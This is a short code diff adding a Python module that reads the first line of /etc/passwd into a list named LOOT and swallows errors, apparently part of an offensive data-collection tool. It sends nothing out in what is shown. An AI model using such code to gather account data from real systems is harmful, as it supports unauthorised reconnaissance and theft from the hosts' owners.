@@ -1,0 +1,7 @@
+"""Reads the list of the host's users."""
+
+try:
+    with open("/etc/passwd") as _file:
+        LOOT.append(_file.readline())
+except OSError:
+    pass
